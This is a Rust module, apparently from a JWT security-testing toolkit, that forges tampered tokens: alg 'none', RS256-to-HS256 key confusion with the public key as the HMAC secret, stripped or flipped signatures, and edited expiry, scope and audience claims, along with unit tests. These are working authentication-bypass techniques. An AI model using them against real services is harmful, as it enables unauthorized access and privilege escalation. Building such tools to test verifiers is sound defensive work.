use std::fmt;

use serde_json::{Map, Value};

use super::keys::{hmac_sha256, parse_private_key, sign_rs256, KeyKind, KeyMaterial};
use super::token::SignedToken;
use super::JwtError;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Mutation {
    SetAlgNone,
    /// HMAC-SHA256 keyed with these exact public-key bytes.
    AlgConfusionHs256(Vec<u8>),
    StripSignature,
    FlipSignatureBit(usize),
    SetExpiry(i64),
    AddScope(String),
    SetAudience(String),
    ResignWith(KeyMaterial),
}

impl fmt::Display for Mutation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Mutation::SetAlgNone => f.write_str("alg-none"),
            Mutation::AlgConfusionHs256(_) => f.write_str("alg-confusion-hs256"),
            Mutation::StripSignature => f.write_str("strip-signature"),
            Mutation::FlipSignatureBit(i) => write!(f, "flip-signature-bit({i})"),
            Mutation::SetExpiry(t) => write!(f, "set-expiry({t})"),
            Mutation::AddScope(s) => write!(f, "add-scope({s})"),
            Mutation::SetAudience(a) => write!(f, "set-audience({a})"),
            Mutation::ResignWith(k) => write!(f, "resign({:?})", k.kind),
        }
    }
}

const KNOWN_ALGS: [&str; 11] = [
    "none", "HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "PS384", "ES256", "ES384",
];

fn resigned(
    header: Map<String, Value>,
    claims: Map<String, Value>,
    sign: impl Fn(&[u8]) -> Vec<u8>,
) -> SignedToken {
    let unsigned = SignedToken::assemble(header, claims, Vec::new());
    let sig = sign(unsigned.signing_input().as_bytes());
    unsigned.with_signature(sig)
}

/// Applies one mutation. Header/claim edits keep the old signature, which
/// therefore no longer matches; chain with `ResignWith` to re-sign.
pub fn forge(base: &SignedToken, mutation: &Mutation) -> Result<SignedToken, JwtError> {
    match base.alg() {
        Some(a) if KNOWN_ALGS.contains(&a) => {}
        other => return Err(JwtError::UnsupportedAlg(other.unwrap_or("<missing>").to_string())),
    }
    let mut header = base.header.clone();
    let mut claims = base.claims.clone();
    Ok(match mutation {
        Mutation::SetAlgNone => {
            header.insert("alg".into(), "none".into());
            SignedToken::assemble(header, claims, Vec::new())
        }
        Mutation::AlgConfusionHs256(public) => {
            if public.is_empty() {
                return Err(JwtError::MissingKey("alg confusion needs the RSA public key bytes".into()));
            }
            header.insert("alg".into(), "HS256".into());
            resigned(header, claims, |m| hmac_sha256(public, m).to_vec())
        }
        Mutation::StripSignature => base.with_signature(Vec::new()),
        Mutation::FlipSignatureBit(i) => {
            if base.signature.is_empty() {
                return Err(JwtError::EmptySignature);
            }
            let mut sig = base.signature.clone();
            let bit = i % (sig.len() * 8);
            sig[bit / 8] ^= 0x80 >> (bit % 8);
            base.with_signature(sig)
        }
        Mutation::SetExpiry(t) => {
            claims.insert("exp".into(), (*t).into());
            SignedToken::assemble(header, claims, base.signature.clone())
        }
        Mutation::AddScope(s) => {
            let mut scopes = base.scopes();
            if !scopes.contains(s) {
                scopes.push(s.clone());
            }
            claims.insert("scope".into(), Value::String(scopes.join(" ")));
            SignedToken::assemble(header, claims, base.signature.clone())
        }
        Mutation::SetAudience(a) => {
            claims.insert("aud".into(), Value::String(a.clone()));
            SignedToken::assemble(header, claims, base.signature.clone())
        }
        Mutation::ResignWith(key) => match key.kind {
            KeyKind::RsaPrivate => {
                let private = parse_private_key(&key.bytes)?;
                header.insert("alg".into(), "RS256".into());
                resigned(header, claims, |m| sign_rs256(&private, m))
            }
            KeyKind::HmacSecret => {
                header.insert("alg".into(), "HS256".into());
                resigned(header, claims, |m| hmac_sha256(&key.bytes, m).to_vec())
            }
            KeyKind::RsaPublic => {
                return Err(JwtError::MissingKey("an RSA public key cannot produce RS256 signatures".into()))
            }
        },
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::jwtkit::keys::{public_key_encodings, verify_hs256, verify_rs256};
    use crate::jwtkit::tests::{issued, test_key};
    use crate::jwtkit::{decode, encode};
    use rsa::pkcs8::{EncodePrivateKey, LineEnding};

    #[test]
    fn alg_none_has_empty_signature_part() {
        let t = forge(&issued(), &Mutation::SetAlgNone).unwrap();
        assert!(t.compact().ends_with('.'));
        assert_eq!(t.alg(), Some("none"));
        assert_eq!(decode(t.compact()).unwrap(), t);
    }

    #[test]
    fn confusion_verifies_under_hmac_of_public_bytes() {
        let public = test_key().to_public_key();
        for (_, bytes) in public_key_encodings(&public) {
            let t = forge(&issued(), &Mutation::AlgConfusionHs256(bytes.clone())).unwrap();
            assert_eq!(t.alg(), Some("HS256"));
            assert!(verify_hs256(&t, &bytes));
            assert!(!verify_rs256(&t, &public));
        }
    }

    #[test]
    fn resign_round_trips_through_verifier() {
        let key = test_key();
        let pem = key.to_pkcs8_pem(LineEnding::LF).unwrap();
        let expired = forge(&issued(), &Mutation::SetExpiry(1)).unwrap();
        assert!(!verify_rs256(&expired, &key.to_public_key()));
        let t = forge(&expired, &Mutation::ResignWith(KeyMaterial::rsa_private(pem.as_bytes()))).unwrap();
        assert!(verify_rs256(&t, &key.to_public_key()));
        assert_eq!(t.exp(), Some(1));
    }

    #[test]
    fn public_key_cannot_sign() {
        let public = public_key_encodings(&test_key().to_public_key()).remove(0).1;
        let err = forge(&issued(), &Mutation::ResignWith(KeyMaterial::rsa_public(public))).unwrap_err();
        assert!(matches!(err, JwtError::MissingKey(_)));
    }

    #[test]
    fn bit_flip_and_strip_break_signature() {
        let key = test_key().to_public_key();
        let base = issued();
        assert!(verify_rs256(&base, &key));
        for i in [0, 7, 100, 2047, 5000] {
            let t = forge(&base, &Mutation::FlipSignatureBit(i)).unwrap();
            assert_eq!(t.signing_input(), base.signing_input());
            assert!(!verify_rs256(&t, &key));
        }
        let stripped = forge(&base, &Mutation::StripSignature).unwrap();
        assert!(stripped.signature.is_empty());
        assert_eq!(encode(&stripped), format!("{}.", base.signing_input()));
    }

    #[test]
    fn claim_edits() {
        let t = forge(&issued(), &Mutation::AddScope("isa.write".into())).unwrap();
        assert_eq!(t.scopes(), ["isa.read", "isa.write"]);
        let t = forge(&t, &Mutation::AddScope("isa.write".into())).unwrap();
        assert_eq!(t.scopes(), ["isa.read", "isa.write"]);
        let t = forge(&issued(), &Mutation::SetAudience("logs".into())).unwrap();
        assert_eq!(t.audiences(), ["logs"]);
    }

    #[test]
    fn unknown_alg_is_rejected() {
        let t = decode("eyJhbGciOiJYWDEifQ.e30.").unwrap();
        assert!(matches!(forge(&t, &Mutation::SetAlgNone), Err(JwtError::UnsupportedAlg(_))));
    }
}
